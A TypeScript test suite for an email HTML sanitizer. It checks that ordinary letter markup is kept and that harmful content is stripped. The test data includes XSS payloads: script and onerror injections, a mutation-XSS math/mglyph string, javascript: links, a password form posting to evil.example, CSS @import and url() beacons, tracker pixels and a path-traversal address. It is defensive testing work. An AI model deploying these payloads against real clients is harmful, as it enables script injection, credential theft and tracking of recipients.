// @vitest-environment jsdom
import { allowedAttributes, allowedTags } from '@besedka/contract/letter-html'
import { describe, expect, test } from 'vitest'
import { createLetterCleaner } from './clean-letter.ts'

const cleaner = createLetterCleaner(globalThis.window)
const clean = (html: string) => cleaner(html).innerHTML
const parse = (html: string) => new DOMParser().parseFromString(html, 'text/html').body
const signed = '/api/v1/signed/attachments/42-1.2?expires=1&signature=abc-_D'

describe('the second wall', () => {
  test('keeps what letters are made of', () => {
    const letter =
      '<table width="100%" bgcolor="#eee"><tbody><tr><td align="center"><b style="color:red;">Счет</b></td></tr></tbody></table>'
    expect(clean(letter)).toBe(letter)
  })

  test('keeps the style sheet at the head of a letter', () => {
    expect(clean('<style>p { color: green }</style><p>text</p>')).toContain('color:green')
  })

  test.each([
    ['a script', '<script>alert(1)</script>'],
    ['a handler', '<img src="x" onerror="alert(1)">'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a form', '<form action="https://evil.example"><input name="password"><button>OK</button></form>'],
    ['an object', '<object data="x.swf"></object><embed src="x.swf">'],
    ['a refresh', '<meta http-equiv="refresh" content="0; url=https://evil.example">'],
    ['a base', '<base href="https://evil.example/">'],
    [
      'a picture language with scripts',
      '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    ],
    [
      'a formula with a way out',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    ],
    ['a template', '<template><img src=x onerror=alert(1)></template>'],
    ['a foreign style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
    ['a data attribute', '<p data-x="1" id="content" name="x">text</p>'],
  ])('drops %s', (_, html) => {
    const elements = [...parse(clean(`<p>before</p>${html}<p>after</p>`)).querySelectorAll('*')]
    for (const element of elements) {
      expect(allowedTags as readonly string[]).toContain(element.tagName.toLowerCase())
      for (const name of element.getAttributeNames()) expect(allowedAttributes as readonly string[]).toContain(name)
    }
    expect(clean(`<p>before</p>${html}<p>after</p>`)).not.toMatch(/evil\.example|alert\(1\)"|onerror=/)
  })

  test.each([
    ['@import', '<style>@import "https://evil.example/x.css"; p { color: green }</style>'],
    ['an escaped @import', '<style>@\\69mport "https://evil.example/x.css"; p { color: green }</style>'],
    ['a background', '<style>p { background: url(https://evil.example/x.png); color: green }</style>'],
    ['an image set', '<style>p { background: image-set("https://evil.example/x.png" 1x); color: green }</style>'],
    ['a font', '<style>@font-face { font-family: x; src: url(//evil.example/x.woff) } p { color: green }</style>'],
    ['a style attribute', '<p style="color: green; background: \\75rl(https://evil.example/x.png)">x</p>'],
    ['a list mark', '<p style="color: green; list-style: url(https://evil.example/x.png)">x</p>'],
  ])('keeps looks and drops what they would fetch: %s', (_, html) => {
    expect(clean(html)).toContain('color:green')
    expect(clean(html)).not.toContain('evil.example')
  })

  test('a style that would lie over the page does not', () => {
    expect(clean('<p style="position: fixed; color: green">x</p>')).toBe('<p style="color:green;">x</p>')
  })

  test.each([
    ['its own parts by signed addresses', signed, true],
    ['pictures inside the letter', 'data:image/png;base64,iVBORw0KGgo=', true],
    ['pictures of other servers', 'https://tracker.example/x.gif', false],
    ['pictures of other servers without a scheme', '//tracker.example/x.gif', false],
    ['other addresses of this server', '/api/v1/session', false],
    ['a way back out of the parts', '/api/v1/signed/attachments/../../session?x=1', false],
    ['pictures that are programs', 'data:image/svg+xml;base64,PHN2Zz4=', false],
    ['pages', 'data:text/html,<script>alert(1)</script>', false],
    ['scripts', 'javascript:alert(1)', false],
  ])('shows %s: %s', (_, source, isShown) => {
    const picture = parse(clean(`<img alt="logo" src="${source.replaceAll('"', '&quot;')}">`)).querySelector('img')
    expect(picture?.hasAttribute('src')).toBe(isShown)
    expect(picture?.alt).toBe('logo')
  })

  test.each([
    ['https://crm.example/1042', true],
    ['mailto:anna@corp.test', true],
    ['tel:+78125550118', true],
    ['javascript:alert(1)', false],
    [' java\tscript:alert(1)', false],
    ['data:text/html,x', false],
    ['/accounts', false],
    ['#top', false],
  ])('a link may lead to %s: %s', (href, isAllowed) => {
    const link = parse(clean(`<a href="${href}">x</a>`)).querySelector('a')
    expect(link?.hasAttribute('href')).toBe(isAllowed)
    expect(link?.getAttribute('target')).toBe('_blank')
    expect(link?.rel).toContain('noopener')
  })
})
